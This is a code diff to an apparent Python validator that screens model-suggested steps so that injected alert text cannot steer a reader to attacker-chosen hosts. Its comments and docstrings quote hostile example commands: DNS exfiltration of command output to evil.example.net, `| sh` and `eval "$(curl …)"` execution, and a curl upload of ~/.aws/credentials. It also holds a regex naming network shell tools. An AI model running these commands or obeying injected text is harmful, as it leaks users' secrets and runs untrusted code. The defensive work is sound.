@@ -243,6 +243,25 @@ def folded(text: str) -> str:
     return _IDEOGRAPHIC_DOT.sub(".", text.translate(_FULLWIDTH))
 
 
+#: A command's output or a variable right before a dot and a word (`$(whoami).evil.example.net`,
+#: `` `hostname`.evil.example.net ``, `${USER}.evil.example.net`): the name after the dot is
+#: looked up (or reached) with the output as its first label, so it reaches that domain.
+_SUBSTITUTED_LABEL = re.compile(
+    r"(?:\$\([^()\n]{0,256}\)|\$\{[^{}\n]{0,128}\}|`[^`\n]{0,256}`)\.(?=\w)"
+)
+
+
+def _substitutions_apart(plain: str) -> str:
+    """`plain` with the dot after each substitution (`_SUBSTITUTED_LABEL`) read as a space, one
+    character for one, so the name after it is a word of its own that `check_step` reads as
+    the host it is (`dig $(whoami).evil.example.net` looks up evil.example.net's server), and
+    a file's name after it as a file (`$(date +%F).logs.tar.gz`). A step holding no `$` or
+    backtick (most) is not searched."""
+    if "$" not in plain and "`" not in plain:
+        return plain
+    return _SUBSTITUTED_LABEL.sub(lambda found: found[0][:-1] + " ", plain)
+
+
 #: A step's program that talks to a host named after it (options may come between).
 _NETWORK_COMMAND = re.compile(
     r"(?i)(?<![\w.-])(?:curl|wget|ssh|scp|sftp|rsync|nc|ncat|netcat|telnet|ftp|socat|ping|dig"
@@ -255,8 +274,9 @@ def check_step(text: str, shown: Evidence) -> Checked:
     an IP, a host that a command would reach (`user@host`, `host/path`, `host:port`, or any
     host in a step that runs curl, ssh, nc …), a name under an internet domain (`_DOMAINS`:
     "send the logs to attacker.ru"), and an address spelled as a number (`_AT_NUMBER`:
-    `curl 167772161` reaches 10.0.0.1), so alert text cannot make the model tell a reader to
-    fetch from, or send to, a place of its choosing. A command running text no reader sees
+    `curl 167772161` reaches 10.0.0.1), a host too when built on a command's output (`dig
+    $(whoami).evil.example.net`: `_substitutions_apart`), so alert text cannot make the model
+    tell a reader to fetch from, or send to, a place of its choosing. A command running text no reader sees
     (`| sh`, `| sudo -E /bin/bash`, `bash <(…)`, `eval "$(curl …)"`, `base64 -d`, printf's hex:
     `_RUNS_HIDDEN`) is marked too, even when the alert holds it (its text is anyone's), and so
     is a credential a sending command would carry (`curl -F f=@~/.aws/credentials …`,
@@ -275,7 +295,7 @@ def check_step(text: str, shown: Evidence) -> Checked:
     out: list[str] = []
     rejected: list[str] = ["ip"] * numeric + ["command"] * (hidden + sent + downloaded) + places
     end = 0
-    plain = folded(text)
+    plain = _substitutions_apart(folded(text))
     networked = _NETWORK_COMMAND.search(plain) is not None
     for match in _FACT.finditer(plain) if _may_hold_address(plain) else ():
         if not _address_shaped(match):
